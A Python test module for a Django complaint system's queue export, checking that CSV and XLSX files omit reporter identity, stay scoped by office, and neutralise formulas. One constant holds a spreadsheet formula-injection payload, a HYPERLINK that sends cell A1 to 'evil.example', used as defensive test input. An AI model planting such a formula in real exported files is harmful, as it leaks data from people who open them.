"""The queue export: the user's filtered queue as CSV (streamed) or XLSX (background job); never the identity,
the chronology, the title or notes; formula-safe; scoped like the queue; flat query counts."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from pantau.complaints import exports
from pantau.complaints.models import Case
from pantau.complaints.tests.helpers import CHRONOLOGY, REPORTER, add_staff, file_report, to_examination
from pantau.core import jobs
from pantau.core.models import AuditEvent, Job

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("november_2nd")]
SECRETS = (REPORTER["full_name"], REPORTER["nik"], REPORTER["email"], REPORTER["phone"], REPORTER["address"])
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
TITLE = "Pungutan liar pembuatan KTP-el"



@pytest.fixture
def c(cast: Any) -> Any:
    add_staff(cast)
    examined = to_examination(cast, file_report(cast).case)  # notified to Tabalong by the plenary
    cast.examined = examined
    cast.received = file_report(cast, visibility="public").case
    cast.formula = file_report(cast, institution=None, unit=None, product=None, reported_other=FORMULA,
                               office=cast.kalsel).case
    return cast


def client(c: Any, role: str) -> Client:
    browser = Client()
    browser.force_login(c.users[role])
    return browser


def csv_rows(response: Any) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def assert_clean(blob: str) -> None:
    for secret in (*SECRETS, CHRONOLOGY[:40], TITLE, "Loket pengaduan"):
        assert secret not in blob, secret


def test_the_csv_holds_the_queue_without_identity_chronology_or_title(c: Any) -> None:
    response = client(c, "intake_kalsel").get(reverse("complaint_docs:export_csv"))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response["Cache-Control"].startswith("private") and "attachment" in response["Content-Disposition"]
    rows = csv_rows(response)
    assert rows[0] == exports.HEADER
    assert not {"Nama", "NIK", "E-mail", "Telepon", "Alamat", "Kronologi", "Pokok laporan"} & set(rows[0])
    numbers = {row[0] for row in rows[1:]}
    assert numbers == {c.examined.number, c.received.number, c.formula.number}
    assert_clean("\n".join(",".join(row) for row in rows))
    examined = next(row for row in rows if row[0] == c.examined.number)
    assert examined[2] == "Pemeriksaan" and examined[4] == "2026-11-02"
    assert examined[7] == "Administrasi kependudukan" and "Permintaan imbalan" in examined[8]
    assert examined[9] == "Ringan" and examined[10] == c.examiner_kalsel.display_name()


def test_csv_cells_that_look_like_formulas_are_made_text(c: Any) -> None:
    rows = csv_rows(client(c, "intake_kalsel").get(reverse("complaint_docs:export_csv")))
    row = next(row for row in rows if row[0] == c.formula.number)
    assert row[5] == "'" + FORMULA


def test_the_xlsx_is_written_by_a_job_and_is_formula_safe(c: Any) -> None:
    browser = client(c, "intake_kalsel")
    page = browser.get(reverse("complaint_docs:export_xlsx") + "?tab=semua")
    assert page.status_code == 200 and "3 laporan" in page.content.decode()
    response = browser.post(reverse("complaint_docs:export_xlsx") + "?tab=semua")
    job = Job.objects.get(kind=exports.EXPORT)
    assert response.status_code == 302 and response["Location"] == reverse("jobs:detail", args=[job.pk])
    assert job.state == Job.State.DONE and job.rows_written == 3 and job.result_filename.endswith(".xlsx")
    with jobs.storage().open(job.result_name, "rb") as fh:
        book = load_workbook(io.BytesIO(fh.read()))
    sheet = book["laporan"]
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == exports.HEADER and len(values) == 4
    assert_clean(repr(values) + repr([[c.value for c in r] for r in book["Catatan"].iter_rows()]))
    formula_row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == c.formula.number)
    assert formula_row[5].data_type == "s" and formula_row[5].value == FORMULA and formula_row[5].quotePrefix


def test_a_provider_exports_only_notified_cases_without_classification_or_examiner(c: Any) -> None:
    rows = csv_rows(client(c, "admin_tabalong").get(reverse("complaint_docs:export_csv")))
    assert [row[0] for row in rows[1:]] == [c.examined.number]
    row = rows[1]
    assert row[5] == c.tabalong.name and row[7:11] == ["", "", "", ""]
    assert_clean(",".join(row))


def test_another_office_exports_none_of_these_cases(c: Any) -> None:
    rows = csv_rows(client(c, "intake_kalteng").get(reverse("complaint_docs:export_csv")))
    assert rows == [exports.HEADER]


def test_the_queue_filters_apply_and_bad_filters_are_ignored(c: Any) -> None:
    browser = client(c, "intake_kalsel")
    rows = csv_rows(browser.get(reverse("complaint_docs:export_csv"), {"tahap": "examination"}))
    assert [row[0] for row in rows[1:]] == [c.examined.number]
    rows = csv_rows(browser.get(reverse("complaint_docs:export_csv"), {"tahap": "bogus", "tenggat": "<script>",
                                                                         "q": "x" * 5000, "urut": "tenggat"}))
    # The unknown stage and status and the over-long search are ignored (as in the queue); "tenggat" keeps the
    # cases with a running deadline (the case at examination has none).
    assert {row[0] for row in rows[1:]} == {c.received.number, c.formula.number}
    rows = csv_rows(browser.get(reverse("complaint_docs:export_csv"), {"q": c.received.number}))
    assert [row[0] for row in rows[1:]] == [c.received.number]


def test_the_export_is_audited_without_the_search_text(c: Any) -> None:
    b"".join(client(c, "intake_kalsel").get(reverse("complaint_docs:export_csv"),
                                            {"q": "Siti", "tahap": "received"}).streaming_content)
    event = AuditEvent.objects.get(event_type="case.exported")
    assert event.after == {"format": "csv", "filter": {"tahap": "received", "q": True}, "how": "direct"}
    assert "Siti" not in repr(event.after)


def test_a_large_csv_is_offered_as_a_job(c: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "CSV_DIRECT_LIMIT", 2)
    browser = client(c, "intake_kalsel")
    page = browser.get(reverse("complaint_docs:export_csv"))
    assert page.status_code == 200 and page["Content-Type"].startswith("text/html")
    assert "lebih dari 2 laporan" in page.content.decode()
    response = browser.post(reverse("complaint_docs:export_csv"))
    job = Job.objects.get(kind=exports.EXPORT)
    assert response.status_code == 302 and job.state == Job.State.DONE and job.result_filename.endswith(".csv")
    with jobs.storage().open(job.result_name, "rb") as fh:
        body = fh.read().decode("utf-8")
    assert len(list(csv.reader(io.StringIO(body[1:])))) == 4
    assert_clean(body)


def test_the_csv_reads_a_flat_number_of_queries(c: Any, django_assert_max_num_queries: Any) -> None:
    browser = client(c, "intake_kalsel")
    browser.get(reverse("complaint_docs:export_csv"))  # warm the caches (calendar, sessions)
    with django_assert_max_num_queries(12) as few:
        b"".join(browser.get(reverse("complaint_docs:export_csv")).streaming_content)
    for _n in range(12):
        to_examination(c, file_report(c).case)
    with django_assert_max_num_queries(len(few.captured_queries)):
        rows = csv_rows(browser.get(reverse("complaint_docs:export_csv")))
    assert len(rows) == 16


def test_rows_are_read_in_batches_by_key(c: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    for _n in range(4):
        file_report(c)
    monkeypatch.setattr(exports, "BATCH", 2)
    newest_first = list(Case.objects.order_by("-pk").values_list("number", flat=True))
    assert [row[0] for row in exports.rows(c.intake_kalsel, {})] == newest_first
    by_due = list(Case.objects.filter(next_due_on__isnull=False).order_by("next_due_on", "pk")
                  .values_list("number", flat=True))
    assert [row[0] for row in exports.rows(c.intake_kalsel, {"urut": "tenggat"})] == by_due and len(by_due) == 6


def test_only_complaint_staff_may_export(c: Any) -> None:
    assert Client().get(reverse("complaint_docs:export_csv")).status_code == 302
    assert client(c, "outsider").get(reverse("complaint_docs:export_csv")).status_code != 200
    assert client(c, "outsider").post(reverse("complaint_docs:export_xlsx")).status_code != 302
    assert not Job.objects.exists()


def test_a_job_whose_owner_lost_the_role_fails_with_a_message(c: Any) -> None:
    c.intake_kalsel.memberships.all().delete()
    job = exports.start_export(c.intake_kalsel, {}, "xlsx")
    assert job.state == Job.State.FAILED and "tidak lagi menangani" in job.message
